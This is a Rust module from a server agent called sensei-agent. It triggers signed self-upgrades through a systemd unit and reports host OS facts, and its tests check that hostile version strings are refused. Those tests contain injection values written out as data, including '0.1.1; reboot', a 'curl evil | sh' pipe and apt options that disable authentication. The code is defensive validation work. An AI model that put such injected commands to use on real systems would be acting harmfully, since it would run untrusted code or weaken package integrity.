//! Upgrading this agent's own package when a signed upgrade job asks, and describing the host
//! it runs on.
//!
//! The agent never runs apt, nor anything as root: it asks systemd to start
//! `sensei-agent-upgrade@<version>.service` (the package's template unit, which the package's
//! polkit rule lets user `sensei-agent` start and nothing else), and systemd runs the root
//! script. It does so only after the control plane recorded the job's outcome, and between
//! jobs; afterwards it takes no job until it is restarted on the new version (or
//! [`UPGRADE_HOLD`] has passed: the upgrade then failed, and the rollout says so).

use std::process::Stdio;
use std::time::Duration;

use sensei_shared::codec::io::write_frame;
use sensei_shared::job::UpgradeAgentSpec;
use sensei_shared::protocol::AgentMessage;
use sensei_shared::session::HelloSent;
use sensei_shared::upgrade::{check_package_version, os_from_release, upgrade_unit};
use tokio::io::AsyncReadExt;

/// The default trigger: `{unit}` is replaced by the escaped unit name.
pub const DEFAULT_UPGRADE_COMMAND: [&str; 4] = ["systemctl", "start", "--no-block", "{unit}"];
/// The longest the trigger may run (with `--no-block`, systemctl returns at once).
const TRIGGER_TIMEOUT: Duration = Duration::from_secs(60);
/// The most of the trigger's output kept for the log.
const TRIGGER_OUTPUT_BYTES: u64 = 4096;
/// How long the agent takes no job after triggering an upgrade, waiting to be restarted.
pub const UPGRADE_HOLD: Duration = Duration::from_secs(600);
/// The most of `/etc/os-release` read.
const OS_RELEASE_BYTES: u64 = 8192;

/// What the agent accepts of a verified upgrade job: the version, if it is a Debian version
/// ([`check_package_version`]); checked before anything else is done with the job, whoever
/// signed it.
pub fn accept(spec: &UpgradeAgentSpec) -> Result<&str, String> {
    check_package_version(&spec.version)
        .map(|()| spec.version.as_str())
        .map_err(|e| format!("upgrade refused: {e}"))
}

/// The trigger's argument list for `version`: every argument that is exactly `{unit}` or
/// `{version}` is replaced (never inside a longer argument, never through a shell).
pub fn command_for(template: Option<&[String]>, version: &str) -> Vec<String> {
    let default: Vec<String> = DEFAULT_UPGRADE_COMMAND
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    template
        .filter(|t| !t.is_empty())
        .map_or(default, <[String]>::to_vec)
        .into_iter()
        .map(|arg| match arg.as_str() {
            "{unit}" => upgrade_unit(version),
            "{version}" => version.to_owned(),
            _ => arg,
        })
        .collect()
}

/// Starts the upgrade to `version`: checks the version once more, then runs the trigger
/// (no shell, no standard input, bounded time and output). Returns why it failed, if it did.
pub async fn trigger(template: Option<&[String]>, version: &str) -> Result<(), String> {
    check_package_version(version).map_err(|e| e.to_string())?;
    let argv = command_for(template, version);
    let (program, args) = argv.split_first().ok_or("the upgrade command is empty")?;
    let mut child = tokio::process::Command::new(program)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .map_err(|e| format!("cannot run {program}: {e}"))?;
    let mut stderr = child.stderr.take();
    let run = async {
        let mut text = String::new();
        if let Some(err) = stderr.as_mut() {
            let _ = err
                .take(TRIGGER_OUTPUT_BYTES)
                .read_to_string(&mut text)
                .await;
        }
        (child.wait().await, text)
    };
    match tokio::time::timeout(TRIGGER_TIMEOUT, run).await {
        Ok((Ok(status), _)) if status.success() => Ok(()),
        Ok((Ok(status), text)) => Err(format!(
            "{} exited with {status}: {}",
            argv.join(" "),
            text.trim()
        )),
        Ok((Err(e), _)) => Err(format!("{program}: {e}")),
        Err(_) => Err(format!(
            "{} did not finish within {TRIGGER_TIMEOUT:?}",
            argv.join(" ")
        )),
    }
}

/// This host's operating system (os-release's `PRETTY_NAME`, bounded) and architecture.
pub fn host_facts() -> (String, String) {
    use std::io::Read;
    let mut text = String::new();
    if let Ok(file) = std::fs::File::open("/etc/os-release")
        .or_else(|_| std::fs::File::open("/usr/lib/os-release"))
    {
        let _ = file.take(OS_RELEASE_BYTES).read_to_string(&mut text);
    }
    (os_from_release(&text), std::env::consts::ARCH.to_owned())
}

/// Tells the control plane what host this is, on a stream of its own (an older control
/// plane drops it; nothing depends on it).
pub async fn send_host_facts(connection: &quinn::Connection, _hello: HelloSent) {
    let (os, arch) = host_facts();
    let Ok((mut send, _recv)) = connection.open_bi().await else {
        return;
    };
    if write_frame(&mut send, &AgentMessage::HostFacts { os, arch })
        .await
        .is_ok()
    {
        let _ = send.finish();
        // Wait until the control plane has it (or dropped it), so that the stream is not
        // reset by dropping it early.
        let _ = send.stopped().await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_default_trigger_starts_the_escaped_unit() {
        assert_eq!(
            command_for(None, "0.1.1-1"),
            [
                "systemctl",
                "start",
                "--no-block",
                "sensei-agent-upgrade@0.1.1\\x2d1.service"
            ]
        );
        let custom = vec![
            "/usr/local/bin/up".to_owned(),
            "{version}".into(),
            "x{version}".into(),
        ];
        assert_eq!(
            command_for(Some(&custom), "0.1.1-1"),
            ["/usr/local/bin/up", "0.1.1-1", "x{version}"]
        );
        assert_eq!(command_for(Some(&[]), "1")[0], "systemctl");
    }

    #[tokio::test]
    async fn a_hostile_version_never_reaches_the_trigger() {
        let dir = tempfile::tempdir().expect("tempdir");
        let marker = dir.path().join("ran");
        let script = vec![
            "/bin/sh".to_owned(),
            "-c".into(),
            format!("touch {}", marker.display()),
        ];
        for bad in [
            "0.1.1; reboot",
            "--reinstall",
            "",
            "1.0 -o APT::x=1",
            "../../x",
        ] {
            let err = trigger(Some(&script), bad).await.expect_err("refused");
            assert!(err.contains("version"), "{err}");
        }
        assert!(!marker.exists(), "the trigger never ran");
        trigger(Some(&script), "0.1.1-1").await.expect("runs");
        assert!(marker.exists());
        let failing = vec![
            "/bin/sh".to_owned(),
            "-c".into(),
            "echo nope >&2; exit 3".into(),
        ];
        let err = trigger(Some(&failing), "0.1.1-1").await.expect_err("fails");
        assert!(err.contains("nope"), "{err}");
    }

    /// A job signed with the pinned key (a stolen key, a compromised control plane) that
    /// names a hostile version passes the signature check and is still refused by the agent.
    #[test]
    fn a_signed_job_with_a_hostile_version_is_refused() {
        use sensei_shared::job::{verify, Expectations, JobPayload, JobTask, SignedJob};
        let key = ed25519_dalek::SigningKey::from_bytes(&[5u8; 32]);
        let pinned = key.verifying_key();
        for (version, accepted) in [
            ("0.1.1-1", true),
            ("0.1.1-1; curl evil | sh", false),
            ("--allow-downgrades", false),
            ("0.1.1-1\n-o APT::Get::AllowUnauthenticated=true", false),
            (&*"9".repeat(65), false),
        ] {
            let payload = JobPayload {
                job_id: uuid::Uuid::from_u128(1),
                server_id: uuid::Uuid::from_u128(2),
                certificate_fingerprint: [3; 32],
                sequence: 7,
                not_before: 1_000,
                expires_at: 2_000,
                task: JobTask::UpgradeAgent(UpgradeAgentSpec {
                    version: version.into(),
                }),
            };
            let job = SignedJob::sign(&payload, &key).expect("sign");
            let verified = verify(
                &job,
                &Expectations {
                    keys: std::slice::from_ref(&pinned),
                    server_id: uuid::Uuid::from_u128(2),
                    certificate_fingerprint: [3; 32],
                    highest_sequence: 6,
                    now: 1_500,
                },
            )
            .expect("the signature is good");
            let JobTask::UpgradeAgent(spec) = &verified.task else {
                panic!("an upgrade job");
            };
            match accept(spec) {
                Ok(v) => assert!(accepted && v == version, "{version:?}"),
                Err(why) => {
                    assert!(!accepted, "{version:?}");
                    assert!(why.starts_with("upgrade refused:"), "{why}");
                }
            }
        }
    }

    #[test]
    fn this_host_is_described_within_bounds() {
        let (os, arch) = host_facts();
        assert_eq!(sensei_shared::upgrade::check_host_facts(&os, &arch), Ok(()));
    }
}
